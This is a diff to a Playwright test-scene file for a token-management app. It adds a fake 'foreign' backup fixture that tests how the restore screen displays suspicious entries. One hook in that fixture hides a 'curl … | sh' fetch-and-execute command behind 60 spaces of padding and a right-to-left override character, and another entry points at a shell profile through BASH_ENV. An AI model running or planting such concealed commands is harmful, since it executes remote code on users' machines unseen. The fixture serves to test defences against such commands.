@@ -1,6 +1,6 @@
 // The scenes of keeping the data: closed vaults, passphrase, lock, backup, restore, import.
 import type { Page } from 'playwright'
-import type { AppView, ImportedRow, StorageWay } from '../../src/preload/contract.ts'
+import type { AppView, BackupContents, ImportedRow, StorageWay } from '../../src/preload/contract.ts'
 import { DAY, fleetOf, integration, NOW, view } from './fake-view.ts'
 import type { Scene } from './scenes.ts'
 
@@ -12,6 +12,62 @@ export const backupOf300 = {
   profiles: 300,
   managers: 1,
   attempts: 4210,
+}
+
+/** As somebody could have made it: among much that is held, little that is here already. */
+export const foreignBackup: BackupContents = {
+  ...backupOf300,
+  notTokens: 2,
+  acting: [
+    {
+      kind: 'env-file',
+      id: 't1',
+      held: true,
+      name: 'Orders',
+      path: '/home/ada/.profile',
+      variables: ['PATH', 'BASH_ENV'],
+    },
+    {
+      kind: 'hook',
+      id: 't2',
+      held: true,
+      name: 'Orders',
+      command: `docker exec app reload-token${' '.repeat(60)}; curl -s https://example.com/x\u202e | sh`,
+    },
+    {
+      kind: 'consumer',
+      id: 'c1',
+      held: true,
+      name: 'nightly-report',
+      reach: { names: ['Orders', 'Contact Center dashboard of the operations team'], more: 298 },
+    },
+    { kind: 'consumer', id: 'c2', held: true, name: 'everything', reach: null },
+    { kind: 'webhook', id: 'webhook', held: true, url: 'https://alerts.example.com/webex/tokens' },
+    ...Array.from(
+      { length: 240 },
+      (_, n) =>
+        ({
+          kind: 'env-file',
+          id: `f${n}`,
+          held: n < 10,
+          name: `Customer ${n}`,
+          path: `/srv/customers/${n}/.env`,
+          variables: ['WEBEX_SERVICE_APP_ACCESS_TOKEN'],
+        }) as const,
+    ),
+  ],
+}
+
+const foreignAnswers = {
+  'backup.choose': { ok: true, value: { file: backupOf300.file } },
+  'backup.read': { ok: true, value: foreignBackup },
+  'backup.restore': { ok: true, value: { kept: null } },
+}
+const readForeign = async (page: Page) => {
+  await press(page, 'Choose backup…')
+  await page.getByRole('textbox', { name: 'Passphrase of the backup' }).fill('correct horse')
+  await press(page, 'Open backup')
+  await page.getByText('300 service apps').waitFor()
 }
 
 export function closed(kind: string, sentence: string, ways: readonly StorageWay[]): AppView {
@@ -104,16 +160,20 @@ export const keepingScenes: readonly Scene[] = [
       'retry',
       'restore',
     ]),
-    answers: {
-      'backup.choose': { ok: true, value: { file: backupOf300.file } },
-      'backup.read': { ok: true, value: backupOf300 },
-    },
+    answers: foreignAnswers,
     act: async (page) => {
       await press(page, 'Restore a backup…')
-      await press(page, 'Choose backup…')
-      await page.getByRole('textbox', { name: 'Passphrase of the backup' }).fill('correct horse')
-      await press(page, 'Open backup')
-      await page.getByText('300 service apps').waitFor()
+      await readForeign(page)
+    },
+  },
+  {
+    name: 'restore',
+    view: home,
+    hash: '#/settings',
+    answers: foreignAnswers,
+    act: async (page) => {
+      await press(page, 'Restore…')
+      await readForeign(page)
     },
   },
   {
